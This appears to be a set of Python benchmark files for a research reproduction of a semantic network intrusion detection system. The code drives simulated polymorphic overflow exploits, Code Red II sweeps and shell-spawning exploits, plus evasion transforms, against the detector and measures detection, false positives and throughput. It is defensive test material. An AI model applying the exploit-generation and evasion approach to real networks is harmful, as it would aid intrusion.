Replays one attack trace — dark-space-scanning attackers delivering
polymorphic (ADMmutate/Clet) overflows plus Code Red II sweeps — through
every registered evasion transform and reports, per transform: packet
inflation, whether the alert set matched the un-evaded baseline, the
front-end counters (overlap bytes trimmed, fragments dropped), and wall
time.  The acceptance bar is MATCH on every row: an attacker gains
nothing by re-encoding delivery.

Wall time per transform comes from a ``bench.*`` tracer span rather than
a hand-rolled clock, and every engine carries the bench tracer so the
``bench_tracer`` fixture can print a per-stage time breakdown across the
whole gauntlet — the same spans ``repro-sensor --trace-out`` streams.
"""

from repro.engines import (
    AdmMutateEngine,
    CletEngine,
    generic_overflow_request,
    get_shellcode,
)
from repro.engines.codered import CodeRedHost
from repro.net.layers import TCP_SYN
from repro.net.packet import tcp_packet
from repro.nids import SemanticNids
from repro.traffic import apply_evasion, evasion_names

NIDS_KW = dict(dark_networks=["10.0.0.0/8"], dark_exclude=["10.10.0.0/24"],
               dark_threshold=5)


def _tcp_flow(src, dst, sport, dport, request, base_time, mss=536):
    out = [tcp_packet(src, dst, sport, dport, flags=TCP_SYN, seq=100,
                      timestamp=base_time)]
    seq, t, off = 101, base_time + 0.001, 0
    while off < len(request):
        chunk = request[off:off + mss]
        out.append(tcp_packet(src, dst, sport, dport, payload=chunk,
                              flags=0x18, seq=seq, timestamp=t))
        seq += len(chunk)
        off += len(chunk)
        t += 0.0005
    out.append(tcp_packet(src, dst, sport, dport, flags=0x11, seq=seq,
                          timestamp=t))
    return out


def build_attack_trace(poly: int, crii: int, seed: int = 9):
    shell = get_shellcode("classic-execve").assemble()
    packets = []
    for i in range(poly):
        for engine, ip_base in ((AdmMutateEngine(seed=seed + i), 50),
                                (CletEngine(seed=seed + i), 70)):
            src = f"10.{ip_base + i}.1.3"
            for s in range(8):
                packets.append(tcp_packet(
                    src, f"10.77.{i + 1}.{s + 1}", 2000 + s, 80,
                    flags=TCP_SYN, seq=1, timestamp=float(i) + s * 0.001))
            request = generic_overflow_request(
                engine.mutate(shell, instance=i).data, seed=i)
            packets += _tcp_flow(src, "10.10.0.7", 3000 + i, 80, request,
                                 10.0 + i)
    for i in range(crii):
        host = CodeRedHost(ip=f"10.{40 + i}.1.2", seed=seed + i)
        packets += host.scan_packets(count=8, base_time=20.0 + i)
        packets += host.exploit_packets("10.10.0.5", base_time=30.0 + i)
    packets.sort(key=lambda p: p.timestamp)
    return packets


def _alert_set(nids):
    return sorted((a.template, a.source) for a in nids.alerts)


def _run(packets, tracer, tag):
    nids = SemanticNids(tracer=tracer, **NIDS_KW)
    with tracer.span(f"bench.{tag}") as span:
        nids.process_trace(packets)
        nids.close()
    return nids, span.duration


class TestEvasionGauntletBench:
    def test_gauntlet(self, scale, report, bench_tracer):
        poly = max(2, scale["throughput_poly"] // 8)
        crii = max(2, scale["throughput_crii"] // 8)
        trace = build_attack_trace(poly=poly, crii=crii)
        baseline_nids, baseline_t = _run(trace, bench_tracer, "baseline")
        baseline = _alert_set(baseline_nids)
        assert baseline, "baseline trace must alert"

        rows = [
            f"{'transform':26s} {'packets':>9s} {'inflate':>8s} "
            f"{'alerts':>7s} {'trimmed':>9s} {'dropped':>8s} "
            f"{'time':>8s} verdict",
            f"{'(none)':26s} {len(trace):9d} {'1.00x':>8s} "
            f"{len(baseline_nids.alerts):7d} {0:9d} {0:8d} "
            f"{baseline_t:7.2f}s baseline",
        ]
        mismatches = []
        for name in evasion_names():
            evaded = apply_evasion(name, trace, seed=3)
            nids, elapsed = _run(evaded, bench_tracer, name)
            match = _alert_set(nids) == baseline
            if not match:
                mismatches.append(name)
            rows.append(
                f"{name:26s} {len(evaded):9d} "
                f"{len(evaded) / len(trace):7.2f}x "
                f"{len(nids.alerts):7d} {nids.stats.overlaps_trimmed:9d} "
                f"{nids.stats.fragments_dropped:8d} {elapsed:7.2f}s "
                f"{'MATCH' if match else 'DIVERGED'}")
        report.table(
            f"Evasion gauntlet ({poly}x2 polymorphic + {crii} CRII attackers)",
            rows)
        assert not mismatches, f"alert set diverged under: {mismatches}"

"""Table 1: Linux shell-spawning buffer-overflow exploits.

Eight exploits are fired at a honeypot registered with the NIDS; the
table reports, per exploit: detected as spawning a shell?, port binding
noted?, and the per-exploit analysis time (the paper reports 2.36-3.27 s
on a 2.8 GHz P4; our substrate is a simulator, so shape — all detected,
binders noted, times uniform across exploits — is the reproduction
target, not the absolute numbers).
"""

import time

from repro.engines import EXPLOITS, ExploitGenerator
from repro.net.wire import Wire
from repro.nids import NidsSensor, SemanticNids

HONEYPOT = "10.10.0.250"


def _fresh_nids() -> tuple[SemanticNids, Wire]:
    nids = SemanticNids(honeypots=[HONEYPOT])
    wire = Wire()
    NidsSensor(nids).attach(wire)
    return nids, wire


def _run_all() -> SemanticNids:
    nids, wire = _fresh_nids()
    ExploitGenerator(wire).fire_all(HONEYPOT)
    return nids


def test_table1_shell_spawning(benchmark, report):
    # Benchmark: the complete eight-exploit campaign through the pipeline.
    nids = benchmark.pedantic(_run_all, rounds=3, iterations=1)
    by_template = nids.alerts_by_template()

    # Table rows: each exploit through a fresh pipeline for exact
    # per-exploit attribution and timing.
    from repro.core.library import sockaddr_port

    rows = [f"{'exploit':24s} {'service':8s} {'shell':6s} {'bind':10s} "
            f"{'bind-truth':10s} {'time':>9s}"]
    spawned = bind_correct = 0
    for spec in EXPLOITS:
        one, wire = _fresh_nids()
        start = time.perf_counter()
        ExploitGenerator(wire).fire(spec, HONEYPOT, seed=1)
        elapsed = time.perf_counter() - start
        got = set(one.alerts_by_template())
        shell = "linux_shell_spawn" in got
        bind = "port_bind_shell" in got
        bind_note = "no"
        if bind:
            match = next(a.match for a in one.alerts
                         if a.template == "port_bind_shell")
            captured = match.bindings.get("SOCKADDR")
            bind_note = (f"port {sockaddr_port(int(captured[1]))}"
                         if captured else "yes")
        spawned += shell
        bind_correct += (bind == spec.binds_port)
        truth = f"port {spec.spec().port}" if spec.binds_port else "no"
        rows.append(
            f"{spec.name:24s} {spec.service:8s} "
            f"{'yes' if shell else 'NO':6s} {bind_note:10s} "
            f"{truth:10s} {elapsed * 1000:7.2f}ms"
        )
        if spec.binds_port:
            assert bind_note == truth  # the listening port is recovered
    rows.append(
        f"summary: {spawned}/8 spawns detected, bind noted correctly "
        f"{bind_correct}/8 (paper: 8/8 detected, both binders noted, "
        f"2.36-3.27 s each on a 2.8 GHz P4)"
    )
    report.table("Table 1 — Linux shell spawning exploits", rows)

    assert spawned == 8
    assert bind_correct == 8
    assert by_template["linux_shell_spawn"] == 8
    assert by_template["port_bind_shell"] == 2

"""Sustained-load soak of the always-on sensor daemon.

Replays the mixed throughput trace (benign conversations + CRII sweeps +
polymorphic campaigns) through :class:`~repro.nids.SensorDaemon` in two
provisioning regimes:

- ``steady``: ring sized for the load — nothing sheds; the run measures
  the daemon's sustained per-packet latency (p50/p99 straight from the
  ``repro_daemon_packet_seconds`` histogram) and the Python-heap ceiling
  (``tracemalloc`` peak) of an always-on loop over the whole trace;
- ``burst``: a deliberately under-provisioned ring (smaller than one
  ingest batch), so capacity pressure *must* shed — the run proves the
  shedding is counted, never silent: the accounting identity
  ``ingested == processed + shed + queued`` holds at exit.

Results land in ``BENCH_soak.json`` at the repo root (uploaded by the CI
soak-smoke job): per-regime p50/p99 latency, throughput, shed rate, and
the memory ceiling, plus an append-style ``history`` trajectory.
"""

import json
import resource
import time
import tracemalloc
from pathlib import Path

from repro.net.packet import Packet, tcp_packet
from repro.net.pcap import PcapReader, write_pcap
from repro.nids import IterPacketSource, SemanticNids, SensorDaemon
from repro.nids.fleet import FLEET_TRANSPORTS, SensorFleet
from repro.obs import quantile_from_buckets

from bench_throughput import NIDS_KW, build_mixed_trace

BENCH_JSON = Path(__file__).resolve().parent.parent / "BENCH_soak.json"

FLEET_WORKER_COUNTS = (1, 2, 4)


def _soak(trace, *, ring_capacity, batch_size, shed_policy="newest"):
    nids = SemanticNids(**NIDS_KW)
    daemon = SensorDaemon(nids, IterPacketSource(iter(trace)),
                          ring_capacity=ring_capacity,
                          batch_size=batch_size,
                          shed_policy=shed_policy)
    tracemalloc.start()
    try:
        stats = daemon.run()
        _, heap_peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        nids.close()
    hist = nids.registry.get("repro_daemon_packet_seconds")
    return dict(
        stats=stats,
        p50_us=quantile_from_buckets(hist.edges, hist.counts, 0.50) * 1e6,
        p99_us=quantile_from_buckets(hist.edges, hist.counts, 0.99) * 1e6,
        heap_peak_mb=heap_peak / 1e6,
    )


def test_soak_daemon_sustained_load(report, scale):
    trace = build_mixed_trace(benign=scale["soak_benign"],
                              crii=scale["soak_crii"],
                              poly=scale["soak_poly"],
                              victims=scale["soak_victims"])

    regimes = {
        "steady": _soak(trace, ring_capacity=4096, batch_size=256),
        "burst": _soak(trace, ring_capacity=32, batch_size=256),
    }

    rows = [f"{'regime':8s} {'pkt/s':>8s} {'p50':>9s} {'p99':>9s} "
            f"{'shed%':>6s} {'heap MB':>8s}"]
    for tag, r in regimes.items():
        s = r["stats"]
        rows.append(f"{tag:8s} {s.processed / max(s.duration, 1e-9):8.0f} "
                    f"{r['p50_us']:7.1f}us {r['p99_us']:7.1f}us "
                    f"{s.shed_rate * 100:5.1f}% {r['heap_peak_mb']:8.1f}")
    rss_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    rows.append(f"process peak RSS (whole test session): {rss_mb:.0f} MB")
    rows.append(f"soak over {len(trace)} packets; every regime exits with "
                f"uncounted_drops == 0")
    report.table("Soak — always-on daemon under sustained load", rows)

    entry = {
        "packets": len(trace),
        "scale": dict(scale),
        "regimes": {
            tag: {
                "packets_per_s": round(
                    r["stats"].processed / max(r["stats"].duration, 1e-9), 1),
                "p50_latency_us": round(r["p50_us"], 2),
                "p99_latency_us": round(r["p99_us"], 2),
                "shed_rate": round(r["stats"].shed_rate, 4),
                "shed": r["stats"].shed,
                "processed": r["stats"].processed,
                "alerts": r["stats"].alerts,
                "uncounted_drops": r["stats"].uncounted_drops,
                "heap_peak_mb": round(r["heap_peak_mb"], 2),
                "seconds": round(r["stats"].duration, 3),
            }
            for tag, r in regimes.items()
        },
        "process_peak_rss_mb": round(rss_mb, 1),
    }
    bench = {}
    if BENCH_JSON.exists():
        try:
            bench = json.loads(BENCH_JSON.read_text())
        except ValueError:
            bench = {}
    bench.update(entry)
    bench.setdefault("history", []).append({
        "packets": len(trace),
        "steady_packets_per_s":
            entry["regimes"]["steady"]["packets_per_s"],
        "steady_p99_latency_us":
            entry["regimes"]["steady"]["p99_latency_us"],
        "burst_shed_rate": entry["regimes"]["burst"]["shed_rate"],
    })
    BENCH_JSON.write_text(json.dumps(bench, indent=2) + "\n")
    report.row(f"wrote {BENCH_JSON.name} "
               f"(history: {len(bench['history'])} entries)")

    steady, burst = regimes["steady"]["stats"], regimes["burst"]["stats"]
    # The soak's hard guarantees: no silent drops in either regime, the
    # under-provisioned ring really shed (and counted every victim), and
    # the fully-provisioned ring shed nothing.
    assert steady.uncounted_drops == 0
    assert burst.uncounted_drops == 0
    assert steady.shed == 0
    assert burst.shed > 0
    assert burst.processed + burst.shed == burst.ingested
    # Latency quantiles came out of a populated histogram.
    assert regimes["steady"]["p99_us"] >= regimes["steady"]["p50_us"] > 0


# ---------------------------------------------------------------------------
# Fleet transport matrix
# ---------------------------------------------------------------------------


def _fleet_run(capture, n_packets, *, transport, workers):
    """One fleet soak: capture file in, work units shipped out, and the
    *dispatcher's* CPU cost of getting them there.

    On the single-CPU CI runner wall-clock throughput mostly measures
    total pipeline work (workers share the core), so the number that
    exposes the transport difference is dispatcher CPU over the feed:

    - ``pickle`` is the seed-era ingestion: every record is decoded
      into a :class:`Packet`, routed on its properties, and re-encoded
      (checksums recomputed in Python) into the submit pickle;
    - ``shm`` reads records and writes them once into the shared ring —
      no decode, no re-encode, header-peek routing;
    - ``offset`` scans record boundaries and ships extents — the
      dispatcher never materializes payload bytes at all.

    ``dispatch_packets_per_s`` is packets over the dispatcher process's
    CPU seconds for that feed phase — ``time.process_time`` is
    process-wide, so it also counts the executor's pickling threads,
    which is exactly where the pickle transport hides part of its cost.
    """
    fleet = SensorFleet(workers=workers, transport=transport,
                        batch_size=64, nids_options=NIDS_KW)
    try:
        wall0, cpu0 = time.perf_counter(), time.process_time()
        if transport == "offset":
            alerts = fleet.process_capture(capture)
            feed_wall = time.perf_counter() - wall0
            feed_cpu = time.process_time() - cpu0
        else:
            reader = PcapReader(capture)
            try:
                while True:
                    rec = reader.poll()
                    if rec is None:
                        break
                    if transport == "pickle":
                        fleet.process_packet(
                            Packet.decode(rec.data, rec.timestamp))
                    else:
                        fleet.process_raw(rec.data, rec.timestamp)
            finally:
                reader.close()
            feed_wall = time.perf_counter() - wall0
            feed_cpu = time.process_time() - cpu0
            alerts = fleet.flush()
        total_wall = time.perf_counter() - wall0
        stats = fleet.stats
    finally:
        fleet.close()
    assert stats.dispatched == n_packets
    return dict(stats=stats, alerts=alerts, feed_wall=feed_wall,
                feed_cpu=feed_cpu, total_wall=total_wall)


def _bulk_flows(flows, segments):
    """MTU-size benign transfers — where most real capture *bytes* live,
    and where the per-byte dispatch tax (encode + serialize) bites.
    Sources sit outside the dark nets and off the honeypots, so the
    classifier waves them through and they change no verdicts."""
    out = []
    t = 5000.0
    for f in range(flows):
        src = f"172.16.{f % 50}.{f % 20 + 1}"
        dst = f"192.168.2.{f % 30 + 1}"
        for _ in range(segments):
            out.append(tcp_packet(src, dst, 2000 + f, 80,
                                  payload=b"B" * 1400, timestamp=t))
            t += 0.0003
    return out


def test_soak_fleet_transport_matrix(report, scale, tmp_path):
    """The zero-copy transport bench: transports × worker counts, all
    fed from one capture file, asserting byte-identical alert streams
    and measuring where the dispatcher's cycles go."""
    trace = build_mixed_trace(benign=scale["soak_benign"],
                              crii=scale["soak_crii"],
                              poly=scale["soak_poly"],
                              victims=scale["soak_victims"])
    trace = trace + _bulk_flows(scale["soak_bulk_flows"],
                                scale["soak_bulk_segments"])
    capture = tmp_path / "fleet_soak.pcap"
    write_pcap(capture, trace)

    results = {}
    reference_alerts = None
    rows = [f"{'transport':9s} {'workers':>7s} {'pkt/s':>9s} "
            f"{'disp pkt/s':>11s} {'cpu%':>5s} {'ship MB':>8s} "
            f"{'ring full':>9s}"]
    for transport in FLEET_TRANSPORTS:
        results[transport] = {}
        for workers in FLEET_WORKER_COUNTS:
            r = _fleet_run(str(capture), len(trace), transport=transport,
                           workers=workers)
            s = r["stats"]
            n = s.dispatched
            entry = {
                "packets_per_s": round(n / max(r["total_wall"], 1e-9), 1),
                "dispatch_packets_per_s": round(
                    n / max(r["feed_cpu"], 1e-9), 1),
                "dispatcher_cpu_share": round(
                    r["feed_cpu"] / max(r["feed_wall"], 1e-9), 4),
                "ship_bytes": s.ship_bytes,
                "ring_full": s.ring_full,
                "ring_fallback": s.ring_fallback,
                "alerts": len(r["alerts"]),
                "seconds": round(r["total_wall"], 3),
            }
            results[transport][str(workers)] = entry
            rows.append(
                f"{transport:9s} {workers:7d} "
                f"{entry['packets_per_s']:9.0f} "
                f"{entry['dispatch_packets_per_s']:11.0f} "
                f"{entry['dispatcher_cpu_share'] * 100:4.0f}% "
                f"{s.ship_bytes / 1e6:8.2f} {s.ring_full:9d}")
            lines = [a.format() for a in r["alerts"]]
            if reference_alerts is None:
                reference_alerts = lines
            else:
                # the transport must never change what the fleet raises
                assert lines == reference_alerts, (transport, workers)
    report.table("Soak — fleet transports × workers (dispatcher cost)",
                 rows)

    at4 = {t: results[t]["4"]["dispatch_packets_per_s"]
           for t in FLEET_TRANSPORTS}
    speedups = {f"{t}_vs_pickle_dispatch_speedup_4w":
                round(at4[t] / max(at4["pickle"], 1e-9), 2)
                for t in ("shm", "offset")}
    report.row(f"dispatcher speedup vs pickle at 4 workers: "
               f"shm {speedups['shm_vs_pickle_dispatch_speedup_4w']:.2f}x, "
               f"offset "
               f"{speedups['offset_vs_pickle_dispatch_speedup_4w']:.2f}x")

    bench = {}
    if BENCH_JSON.exists():
        try:
            bench = json.loads(BENCH_JSON.read_text())
        except ValueError:
            bench = {}
    bench["fleet"] = {
        "packets": len(trace),
        "transports": results,
        **speedups,
    }
    bench.setdefault("history", [])
    # the soak test owns the shared history shape; fleet numbers append
    # their own trajectory so regressions are visible over time
    bench.setdefault("fleet_history", []).append({
        "packets": len(trace),
        **{f"{t}_dispatch_pkt_s_4w": at4[t] for t in FLEET_TRANSPORTS},
        **speedups,
    })
    BENCH_JSON.write_text(json.dumps(bench, indent=2) + "\n")
    report.row(f"wrote {BENCH_JSON.name} fleet section "
               f"(history: {len(bench['fleet_history'])} entries)")

    # Hard guarantees: alert parity held (asserted above), at least one
    # zero-copy transport beats pickle's dispatcher cost convincingly at
    # 4 workers, and the pickle tax is real (ship_bytes accounting).
    best = max(speedups.values())
    assert best >= 2.0, f"zero-copy dispatch speedup regressed: {speedups}"
    assert results["offset"]["4"]["ship_bytes"] < \
        results["pickle"]["4"]["ship_bytes"]

"""Sustained-load soak of the always-on sensor daemon.

Replays the mixed throughput trace (benign conversations + CRII sweeps +
polymorphic campaigns) through :class:`~repro.nids.SensorDaemon` in two
provisioning regimes:

- ``steady``: ring sized for the load — nothing sheds; the run measures
  the daemon's sustained per-packet latency (p50/p99 straight from the
  ``repro_daemon_packet_seconds`` histogram) and the Python-heap ceiling
  (``tracemalloc`` peak) of an always-on loop over the whole trace;
- ``burst``: a deliberately under-provisioned ring (smaller than one
  ingest batch), so capacity pressure *must* shed — the run proves the
  shedding is counted, never silent: the accounting identity
  ``ingested == processed + shed + queued`` holds at exit.

Results land in ``BENCH_soak.json`` at the repo root (uploaded by the CI
soak-smoke job): per-regime p50/p99 latency, throughput, shed rate, and
the memory ceiling, plus an append-style ``history`` trajectory.
"""

import json
import resource
import tracemalloc
from pathlib import Path

from repro.nids import IterPacketSource, SemanticNids, SensorDaemon
from repro.obs import quantile_from_buckets

from bench_throughput import NIDS_KW, build_mixed_trace

BENCH_JSON = Path(__file__).resolve().parent.parent / "BENCH_soak.json"


def _soak(trace, *, ring_capacity, batch_size, shed_policy="newest"):
    nids = SemanticNids(**NIDS_KW)
    daemon = SensorDaemon(nids, IterPacketSource(iter(trace)),
                          ring_capacity=ring_capacity,
                          batch_size=batch_size,
                          shed_policy=shed_policy)
    tracemalloc.start()
    try:
        stats = daemon.run()
        _, heap_peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        nids.close()
    hist = nids.registry.get("repro_daemon_packet_seconds")
    return dict(
        stats=stats,
        p50_us=quantile_from_buckets(hist.edges, hist.counts, 0.50) * 1e6,
        p99_us=quantile_from_buckets(hist.edges, hist.counts, 0.99) * 1e6,
        heap_peak_mb=heap_peak / 1e6,
    )


def test_soak_daemon_sustained_load(report, scale):
    trace = build_mixed_trace(benign=scale["soak_benign"],
                              crii=scale["soak_crii"],
                              poly=scale["soak_poly"],
                              victims=scale["soak_victims"])

    regimes = {
        "steady": _soak(trace, ring_capacity=4096, batch_size=256),
        "burst": _soak(trace, ring_capacity=32, batch_size=256),
    }

    rows = [f"{'regime':8s} {'pkt/s':>8s} {'p50':>9s} {'p99':>9s} "
            f"{'shed%':>6s} {'heap MB':>8s}"]
    for tag, r in regimes.items():
        s = r["stats"]
        rows.append(f"{tag:8s} {s.processed / max(s.duration, 1e-9):8.0f} "
                    f"{r['p50_us']:7.1f}us {r['p99_us']:7.1f}us "
                    f"{s.shed_rate * 100:5.1f}% {r['heap_peak_mb']:8.1f}")
    rss_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    rows.append(f"process peak RSS (whole test session): {rss_mb:.0f} MB")
    rows.append(f"soak over {len(trace)} packets; every regime exits with "
                f"uncounted_drops == 0")
    report.table("Soak — always-on daemon under sustained load", rows)

    entry = {
        "packets": len(trace),
        "scale": dict(scale),
        "regimes": {
            tag: {
                "packets_per_s": round(
                    r["stats"].processed / max(r["stats"].duration, 1e-9), 1),
                "p50_latency_us": round(r["p50_us"], 2),
                "p99_latency_us": round(r["p99_us"], 2),
                "shed_rate": round(r["stats"].shed_rate, 4),
                "shed": r["stats"].shed,
                "processed": r["stats"].processed,
                "alerts": r["stats"].alerts,
                "uncounted_drops": r["stats"].uncounted_drops,
                "heap_peak_mb": round(r["heap_peak_mb"], 2),
                "seconds": round(r["stats"].duration, 3),
            }
            for tag, r in regimes.items()
        },
        "process_peak_rss_mb": round(rss_mb, 1),
    }
    bench = {}
    if BENCH_JSON.exists():
        try:
            bench = json.loads(BENCH_JSON.read_text())
        except ValueError:
            bench = {}
    bench.update(entry)
    bench.setdefault("history", []).append({
        "packets": len(trace),
        "steady_packets_per_s":
            entry["regimes"]["steady"]["packets_per_s"],
        "steady_p99_latency_us":
            entry["regimes"]["steady"]["p99_latency_us"],
        "burst_shed_rate": entry["regimes"]["burst"]["shed_rate"],
    })
    BENCH_JSON.write_text(json.dumps(bench, indent=2) + "\n")
    report.row(f"wrote {BENCH_JSON.name} "
               f"(history: {len(bench['history'])} entries)")

    steady, burst = regimes["steady"]["stats"], regimes["burst"]["stats"]
    # The soak's hard guarantees: no silent drops in either regime, the
    # under-provisioned ring really shed (and counted every victim), and
    # the fully-provisioned ring shed nothing.
    assert steady.uncounted_drops == 0
    assert burst.uncounted_drops == 0
    assert steady.shed == 0
    assert burst.shed > 0
    assert burst.processed + burst.shed == burst.ingested
    # Latency quantiles came out of a populated histogram.
    assert regimes["steady"]["p99_us"] >= regimes["steady"]["p50_us"] > 0

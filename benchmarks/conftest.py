"""Shared benchmark infrastructure.

Every benchmark regenerates one table or figure of the paper and prints
its rows (visible with ``pytest benchmarks/ --benchmark-only -s``); rows
are also appended to ``benchmarks/out/results.txt`` so a full run leaves
a reviewable artifact.

Scale: set ``REPRO_SCALE=paper`` for paper-faithful workload sizes
(12 x 200k-packet traces, tens of MB of benign traffic); the default
"quick" scale keeps a full benchmark run in minutes while preserving
every qualitative result.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

OUT_DIR = Path(__file__).parent / "out"

SCALE = os.environ.get("REPRO_SCALE", "quick")

SCALES = {
    "quick": {
        "table3_packets": 20_000,
        "fp_payload_bytes": 4_000_000,
        "admmutate_instances": 100,
        "clet_instances": 100,
        "netsky_size": 8 * 1024,
        "throughput_benign": 150,
        "throughput_crii": 20,
        "throughput_poly": 20,
        "throughput_victims": 8,
    },
    "paper": {
        "table3_packets": 200_000,
        "fp_payload_bytes": 32_000_000,
        "admmutate_instances": 100,
        "clet_instances": 100,
        "netsky_size": 22 * 1024,
        "throughput_benign": 600,
        "throughput_crii": 40,
        "throughput_poly": 40,
        "throughput_victims": 12,
    },
}


@pytest.fixture(scope="session")
def scale() -> dict:
    return SCALES[SCALE]


@pytest.fixture(scope="session")
def report():
    """Collects result rows and writes them to the results artifact."""
    OUT_DIR.mkdir(exist_ok=True)
    lines: list[str] = []

    class Reporter:
        def row(self, text: str) -> None:
            lines.append(text)
            print(text)

        def table(self, title: str, rows: list[str]) -> None:
            self.row("")
            self.row(f"=== {title} (scale={SCALE}) ===")
            for r in rows:
                self.row(r)

    reporter = Reporter()
    yield reporter
    path = OUT_DIR / "results.txt"
    with open(path, "a") as fh:
        fh.write("\n".join(lines) + "\n")

"""Shared benchmark infrastructure.

Every benchmark regenerates one table or figure of the paper and prints
its rows (visible with ``pytest benchmarks/ --benchmark-only -s``); rows
are also appended to ``benchmarks/out/results.txt`` so a full run leaves
a reviewable artifact.

Scale: set ``REPRO_SCALE=paper`` for paper-faithful workload sizes
(12 x 200k-packet traces, tens of MB of benign traffic); the default
"quick" scale keeps a full benchmark run in minutes while preserving
every qualitative result.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from repro.obs import aggregate_spans, Tracer

OUT_DIR = Path(__file__).parent / "out"

SCALE = os.environ.get("REPRO_SCALE", "quick")

SCALES = {
    "quick": {
        "table3_packets": 20_000,
        "fp_payload_bytes": 4_000_000,
        "admmutate_instances": 100,
        "clet_instances": 100,
        "netsky_size": 8 * 1024,
        "throughput_benign": 150,
        "throughput_crii": 20,
        "throughput_poly": 20,
        "throughput_victims": 8,
        "soak_benign": 120,
        "soak_crii": 12,
        "soak_poly": 12,
        "soak_victims": 6,
        "soak_bulk_flows": 120,
        "soak_bulk_segments": 25,
    },
    "paper": {
        "table3_packets": 200_000,
        "fp_payload_bytes": 32_000_000,
        "admmutate_instances": 100,
        "clet_instances": 100,
        "netsky_size": 22 * 1024,
        "throughput_benign": 600,
        "throughput_crii": 40,
        "throughput_poly": 40,
        "throughput_victims": 12,
        "soak_benign": 500,
        "soak_crii": 30,
        "soak_poly": 30,
        "soak_victims": 10,
        "soak_bulk_flows": 400,
        "soak_bulk_segments": 25,
    },
}


@pytest.fixture(scope="session")
def scale() -> dict:
    return SCALES[SCALE]


@pytest.fixture(scope="session")
def report():
    """Collects result rows and writes them to the results artifact."""
    OUT_DIR.mkdir(exist_ok=True)
    lines: list[str] = []

    class Reporter:
        def row(self, text: str) -> None:
            lines.append(text)
            print(text)

        def table(self, title: str, rows: list[str]) -> None:
            self.row("")
            self.row(f"=== {title} (scale={SCALE}) ===")
            for r in rows:
                self.row(r)

    reporter = Reporter()
    yield reporter
    path = OUT_DIR / "results.txt"
    with open(path, "a") as fh:
        fh.write("\n".join(lines) + "\n")


def stage_breakdown_rows(spans) -> list[str]:
    """Per-stage time/bytes table from a span stream (what ``--trace-out``
    emits); shared by every bench that attaches a tracer."""
    agg = aggregate_spans(spans)
    rows = [f"{'stage':14s} {'calls':>9s} {'seconds':>9s} {'Mbytes':>8s} "
            f"{'MB/s':>8s}"]
    for stage in sorted(agg, key=lambda s: -agg[s]["seconds"]):
        a = agg[stage]
        rate = a["bytes"] / a["seconds"] / 1e6 if a["seconds"] else 0.0
        rows.append(f"{stage:14s} {a['calls']:9d} {a['seconds']:8.3f}s "
                    f"{a['bytes'] / 1e6:8.2f} {rate:8.1f}")
    return rows


@pytest.fixture
def bench_tracer(report, request):
    """An in-memory tracer for one bench.

    Benches attach it to the engines they run (``tracer=bench_tracer``)
    and time whole configurations with ``bench_tracer.span(...)`` — the
    same span machinery ``repro-sensor --trace-out`` streams to disk.  On
    teardown the collected spans are folded into a per-stage time
    breakdown and appended to the results artifact.
    """
    tracer = Tracer(max_spans=2_000_000)
    yield tracer
    stage_spans = [s for s in tracer.spans
                   if not s.stage.startswith("bench.")]
    if stage_spans:
        rows = stage_breakdown_rows(stage_spans)
        if tracer.dropped:
            rows.append(f"(!) {tracer.dropped} spans dropped at the "
                        f"in-memory buffer cap — totals are partial")
        report.table(
            f"Per-stage span breakdown — {request.node.name}", rows)

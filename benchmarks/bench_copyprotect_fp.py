"""The §3 copy-protection false-positive argument, quantified.

The paper's case for building a *network* system around [5]'s analysis:
legitimate protectors (CrypKey, ASProtect) ship decryption loops, so
pure host-based semantic scanning false-positives on protected software
— "we expect the false positive rate of the detection scheme based on
purely checking installed binary programs ... to grow accordingly.
However, it is highly unlikely for copy protected program to be embedded
in a web request sent by a scanning source."

Three configurations over the same bytes (a protected benign program):

1. host-based scan of the installed binary ([5])      -> false alert
2. network NIDS, classification ON, program downloaded
   over HTTP by an ordinary client                     -> silent
3. network NIDS, classification OFF (the §5.4 mode)   -> alert
   (honest: this is why §3 says "false positives are bound to emerge
   unless a good classifier is provided")
"""

from repro.baseline import HostBasedScanner
from repro.engines.copyprotect import protected_binary
from repro.net.wire import Host, Wire
from repro.nids import NidsSensor, SemanticNids


def _download_over_http(nids: SemanticNids, program: bytes) -> None:
    """An ordinary client downloads the protected program from a benign
    web server; the sensor watches."""
    wire = Wire()
    NidsSensor(nids).attach(wire)
    client = Host(ip="192.168.1.20", wire=wire)
    session = client.open_tcp("10.10.0.30", 80)
    session.send(b"GET /downloads/shareware-setup.exe HTTP/1.0\r\n"
                 b"Host: downloads.example.com\r\n\r\n")
    session.reply(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
        + f"Content-Length: {len(program)}\r\n\r\n".encode() + program
    )
    session.close()


def test_copyprotect_false_positive_architecture(benchmark, report):
    program = protected_binary(size=8 * 1024, seed=3)

    # 1. Host-based scan: the protector's loop IS a decryption loop.
    def host_scan():
        return HostBasedScanner().scan_binary(program[:2048])

    host_result = benchmark.pedantic(host_scan, rounds=1, iterations=1)

    # 2. Network NIDS with classification: nothing marked the client or
    # server, so the download is never analyzed.
    gated = SemanticNids(honeypots=["10.10.0.250"])
    _download_over_http(gated, program)

    # 3. Classification disabled: everything is analyzed, including the
    # protector stub.
    open_nids = SemanticNids(classification_enabled=False)
    _download_over_http(open_nids, program)

    rows = [
        f"host-based scan ([5]'s deployment):        "
        f"{'FALSE ALERT' if host_result.detected else 'silent'} "
        f"({', '.join(host_result.matched_names()) or '-'})",
        f"network NIDS, classification ON:           "
        f"{'FALSE ALERT' if gated.alerts else 'silent'} "
        f"(payloads analyzed: {gated.stats.payloads_analyzed})",
        f"network NIDS, classification OFF (§5.4):   "
        f"{'FALSE ALERT' if open_nids.alerts else 'silent'}",
        "the classifier is what turns a powerful-but-FP-prone analysis "
        "into a deployable NIDS — §3's architectural argument",
    ]
    report.table("§3 — copy-protected software (CrypKey/ASProtect scenario)",
                 rows)

    assert host_result.detected        # [5] alone false-positives
    assert "xor_decrypt_loop" in host_result.matched_names()
    assert gated.alerts == []          # the paper's deployment stays silent
    assert gated.stats.payloads_analyzed == 0
    assert open_nids.alerts != []      # and §3's warning is real

"""Figures 1 & 2: one template matches three equivalent decrypt routines.

Regenerates the paper's motivating example — the template of Figure 2
satisfied by the plain routine 1(a), the constant-obfuscated 1(b), and the
out-of-order 1(c) — and benchmarks the semantic-analysis cost for each.
"""

import pytest

